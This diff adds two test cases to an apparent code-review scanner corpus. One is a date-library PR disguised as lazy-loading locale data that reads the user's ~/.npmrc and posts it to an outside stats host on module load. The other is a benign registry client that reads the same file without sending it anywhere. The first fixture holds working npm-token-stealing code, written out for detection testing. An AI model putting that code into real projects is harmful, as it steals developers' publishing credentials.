@@ -557,4 +557,58 @@ export const CODE_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
   },
+  {
+    id: 'code-npmrc-token-stolen-on-import',
+    description: "A first-time contributor's \"lazy-load the locale data\" PR to a date library also reads ~/.npmrc and posts it to a stats host when the module loads (the npm token stealers of 2024-2025).",
+    fixture: () =>
+      codePr({
+        repo: 'chrono-fmt',
+        number: 6805,
+        title: 'Lazy-load locale data',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/locales.js',
+            base: lines("const data = require('./data/all.json');", 'module.exports = (tag) => data[tag];'),
+            head: lines(
+              "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');",
+              'let data = null;',
+              "module.exports = (tag) => (data ??= require('./data/all.json'))[tag];",
+              "try { const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const r = https.request({ hostname: 'stats.chrono-cdn.dev', path: '/v1/i', method: 'POST' }); r.end(t); } catch {}",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
+  },
+  {
+    id: 'code-registry-client-reads-npmrc',
+    description: "A maintainer's registry client learns to read the user's ~/.npmrc for the registry URL; it fetches metadata, and posts nothing.",
+    fixture: () =>
+      codePr({
+        repo: 'pkg-meta',
+        number: 6806,
+        title: 'Read the registry from ~/.npmrc',
+        files: [
+          {
+            path: 'src/registry.ts',
+            base: lines("export const registry = (): string => process.env.npm_config_registry ?? 'https://registry.npmjs.org/';"),
+            head: lines(
+              "import { readFileSync } from 'node:fs';",
+              "import { homedir } from 'node:os';",
+              "import { join } from 'node:path';",
+              '',
+              'export function registry(): string {',
+              '  if (process.env.npm_config_registry) return process.env.npm_config_registry;',
+              "  const rc = (() => { try { return readFileSync(join(homedir(), '.npmrc'), 'utf8'); } catch { return ''; } })();",
+              "  return /^registry\\s*=\\s*(\\S+)/m.exec(rc)?.[1] ?? 'https://registry.npmjs.org/';",
+              '}',
+              '',
+              "export const metadata = async (name: string) => (await fetch(new URL(name, registry()))).json();",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
